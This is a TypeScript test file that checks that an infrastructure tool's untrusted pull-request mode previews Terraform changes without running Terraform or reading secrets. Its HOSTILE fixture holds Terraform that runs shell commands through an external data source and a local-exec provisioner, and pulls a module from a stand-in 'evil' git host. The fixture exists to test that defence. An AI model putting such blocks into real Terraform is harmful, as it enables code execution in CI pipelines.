import {rm, writeFile} from 'node:fs/promises';
import {join} from 'node:path';
import {describe, expect, it} from 'vitest';
import type {DriftReport} from '../../src/app/detect-drift.ts';
import type {Json, JsonObject} from '../../src/core/json.ts';
import type {Plan} from '../../src/core/plan/plan.ts';
import {plainCanary} from '../rig/canaries.ts';
import {atEndOfTest} from '../rig/end-of-test.ts';
import {onCluster} from '../rig/on-cluster.ts';
import {pullRequest} from '../rig/pull-request.ts';
import {ageIdentity} from '../rig/sealed-backend.ts';
import {hasTerraform, testedTerraform} from '../rig/terraform.ts';
import {actionsOf, changeOf, configMap, terraformData, terraformId} from '../rig/terraform-stack.ts';

const STORED = 'ref://login';
/** The additions of a pull request that would run its own programs. */
const HOSTILE = `data "external" "run" {
  program = ["sh", "-c", "touch /tmp/gantry-must-not-exist"]
}
resource "terraform_data" "run" {
  provisioner "local-exec" {
    command = "touch /tmp/gantry-must-not-exist"
  }
}
module "remote" {
  source = "git::https://git.example/evil.git"
}
`;
const CODE = `resource "terraform_data" "queue" {
  input = "one"
}
resource "terraform_data" "each" {
  for_each = toset(["a", "b"])
  input    = each.key
}
resource "terraform_data" "old" {}
module "topic" {
  source = "./topic"
}
output "queue" {
  value = terraform_data.queue.output
}
`;

describe.runIf(hasTerraform())('with the terraform of this machine', () => {
  onCluster('Terraform resources in untrusted mode', (cluster) => {
    /** A repository whose main branch was applied. The terraform of the job would leave a mark. */
    async function change(source: JsonObject, files: (namespace: string) => Readonly<Record<string, Json>>) {
      const namespace = cluster.freshNamespace('tfpr');
      const [age, terraform] = await Promise.all([ageIdentity(), testedTerraform()]);
      atEndOfTest(terraform.close);
      const password = plainCanary('password');
      const request = await pullRequest({
        kubeconfigPath: cluster.kubeconfigPath,
        files: {
          'project.yaml': {
            name: 'shop',
            backend: {local: {path: '../state'}, encryption: {age: {recipients: [age.recipient]}}},
          },
          'stack.yaml': {name: 'shop', workspace: 'test', namespace, sources: [source]},
          'workspaces/test.yaml': {
            name: 'test',
            context: {kubeconfig_path: cluster.kubeconfigPath},
            secretStore: {provider: {file: {path: 'secrets'}}},
            providers: {aws: {main: {region: 'eu-west-1', access_key: STORED, secret_key: STORED}}},
          },
          'workspaces/secrets/login': password,
          ...files(namespace),
        },
      });
      await request.allow('test');
      const applied = await request.gantry(['apply', '--yes', '--no-wait'], {
        env: {...terraform.env, GANTRY_AGE_KEY: age.key},
      });
      expect(applied, applied.stdout + applied.stderr).toMatchObject({code: 0});
      const program = join(request.home, 'terraform');
      await writeFile(program, `#!/bin/sh\ntouch ${request.mark}\nexit 1\n`, {mode: 0o700});
      // Neither the sealed state nor the secret store is read.
      await rm(join(request.dir, '..', 'state', 'terraform'), {recursive: true});
      await rm(join(request.dir, 'workspaces', 'secrets'), {recursive: true});
      const look = async (...args: readonly string[]): Promise<string> => {
        const ran = await request.look(args, {GANTRY_AGE_KEY: age.key, GANTRY_TERRAFORM: program});
        expect(ran, ran.stderr).toMatchObject({code: 0});
        expect(request.hasRun()).toBe(false);
        expect(new Set(ran.programs)).toEqual(new Set(['git']));
        expect(ran.stdout + ran.stderr + ran.bodies).not.toContain(password);
        return ran.stdout;
      };
      const withoutKey = () => request.look(['preview'], {GANTRY_TERRAFORM: program});
      return {
        request,
        namespace,
        look,
        withoutKey,
        preview: async () => JSON.parse(await look('preview', '-o', 'json')) as Plan,
      };
    }

    const resources = (namespace: string, size: string, ...more: readonly JsonObject[]): JsonObject => ({
      resources: [
        terraformData('record', {input: {size, password: 'secret-of-the-file'}}),
        terraformData('login', {input: {password: STORED}}),
        configMap(namespace, 'web', {
          record: `\${ref:${terraformId('record')}#id}`,
          login: `\${ref:${terraformId('login')}#id}`,
        }),
        terraformData('copy', {input: `\${ref:${terraformId('record')}#id}`}),
        configMap(namespace, 'copy', {copy: `\${ref:${terraformId('copy')}#id}`}),
        ...more,
      ],
    });

    it('a preview compares the resources with the last release, starts no terraform, and reads no secret', async () => {
      const {request, namespace, preview, look} = await change({spec: 'spec.yaml'}, (name) => ({
        'spec.yaml': resources(name, 'small', terraformData('gone', {input: 'x'})),
      }));
      const web = `v1:ConfigMap:${namespace}:web`;
      await request.write({'spec.yaml': resources(namespace, 'small', terraformData('gone', {input: 'x'}))});
      expect(new Set(Object.values(actionsOf(await preview())))).toEqual(new Set(['unchanged']));

      const queue: JsonObject = {
        id: 'hashicorp:aws:aws_sqs_queue:orders',
        type: 'Terraform',
        attributes: {name: 'orders'},
        extensions: {provider: 'registry.terraform.io/hashicorp/aws/5.100.0', providerRef: 'aws.main'},
      };
      await request.write({'spec.yaml': resources(namespace, 'large', queue)});
      const plan = await preview();
      expect(actionsOf(plan)).toEqual({
        [terraformId('record')]: 'update',
        [terraformId('login')]: 'unchanged',
        [terraformId('gone')]: 'delete',
        'hashicorp:aws:aws_sqs_queue:orders': 'create',
        [web]: 'update',
        [terraformId('copy')]: 'unchanged',
        [`v1:ConfigMap:${namespace}:copy`]: 'update',
      });
      expect(changeOf(plan, terraformId('record'))).toMatchObject({
        verified: false,
        reason: expect.stringContaining('untrusted mode starts no terraform'),
        fields: [{path: 'input.size', before: 'small', after: 'large', cause: 'spec'}],
      });
      // Its id may be another one after the apply, and that of the unchanged resource is the recorded one.
      expect(changeOf(plan, web)?.fields).toMatchObject([{path: 'data.record', unknown: true}]);
      expect(plan.untrusted?.notVerified).toBeGreaterThanOrEqual(4);
      expect(await look('preview')).toContain('1 resource not verified: untrusted mode starts no terraform');
      const text = await look('preview', '--detail');
      expect(text).toMatch(/input\.size.*small.*large/);
      expect(text).toContain('not verified');

      await request.write({
        'spec.yaml': resources(namespace, 'small', {
          ...terraformData('gone', {input: 'x'}),
          attributes: {input: {password: 'ref://OTHER'}},
        }),
      });
      expect(changeOf(await preview(), terraformId('gone'))).toMatchObject({action: 'update', verified: false});
    });

    it('rules leave ignored attributes out', async () => {
      const {request, namespace, preview} = await change({spec: 'spec.yaml'}, (name) => ({
        'spec.yaml': resources(name, 'small'),
      }));
      await request.write({
        'stack.yaml': {
          name: 'shop',
          workspace: 'test',
          namespace,
          sources: [{spec: 'spec.yaml'}],
          ignore: [{kind: 'terraform_data', path: 'input.size'}],
        },
        'spec.yaml': resources(namespace, 'large'),
      });
      const {changes, diagnostics} = await preview();
      expect(new Set(changes.map(({action}) => action))).toEqual(new Set(['unchanged']));
      expect(diagnostics.map(({code}) => code)).not.toContain('ignore/unused');
    });

    it('a preview shows changed blocks of Terraform code without their evaluation', async () => {
      const {request, preview, look} = await change({terraform: 'code'}, () => ({
        'code/main.tf': CODE,
        'code/topic/main.tf': 'resource "terraform_data" "topic" {}\n',
      }));
      const code = CODE.replace('"one"', '"two"').replace('resource "terraform_data" "old" {}\n', '');
      await request.write({'code/main.tf': `${code}${HOSTILE}`});
      const plan = await preview();
      expect(actionsOf(plan)).toEqual({
        'terraform:output': 'update',
        'terraform_data.queue': 'update',
        'terraform_data.each["a"]': 'unchanged',
        'terraform_data.each["b"]': 'unchanged',
        'terraform_data.old': 'delete',
        'terraform_data.run': 'create',
        'module.topic.terraform_data.topic': 'unchanged',
      });
      expect(plan.changes.every(({verified}) => !verified)).toBe(true);
      expect(changeOf(plan, 'terraform:output')?.fields).toMatchObject([
        {path: 'files["main.tf"]', before: CODE, after: `${code}${HOSTILE}`},
      ]);
      expect(await look('preview', '--detail')).toContain('local-exec');
      const part = await look('preview', '--target', 'terraform_data.queue');
      expect(part).toContain('terraform_data.queue');
      expect(part).not.toMatch(/terraform_data\.(?:old|run|each)/);
    });

    it('a job without the key of the sealed backend gets one clear error', async () => {
      const {withoutKey} = await change({spec: 'spec.yaml'}, (name) => ({'spec.yaml': resources(name, 'small')}));
      const refused = await withoutKey();
      expect(refused).toMatchObject({code: 4, stderr: expect.stringContaining('no age identity was found')});
    });

    it('drift compares the objects of the cluster, and says that it asks no provider', async () => {
      const {look} = await change({spec: 'spec.yaml'}, (name) => ({'spec.yaml': resources(name, 'small')}));
      const {stacks} = JSON.parse(await look('drift', '-o', 'json')) as DriftReport;
      expect(stacks.flatMap(({objects}) => objects)).toMatchObject([
        {type: 'Kubernetes', drift: 'none'},
        {type: 'Kubernetes', drift: 'none'},
      ]);
      expect(stacks[0]?.diagnostics).toContainEqual(
        expect.objectContaining({
          code: 'plan/untrusted',
          message: expect.stringContaining('3 Terraform resources are not compared'),
        }),
      );
    });
  });
});
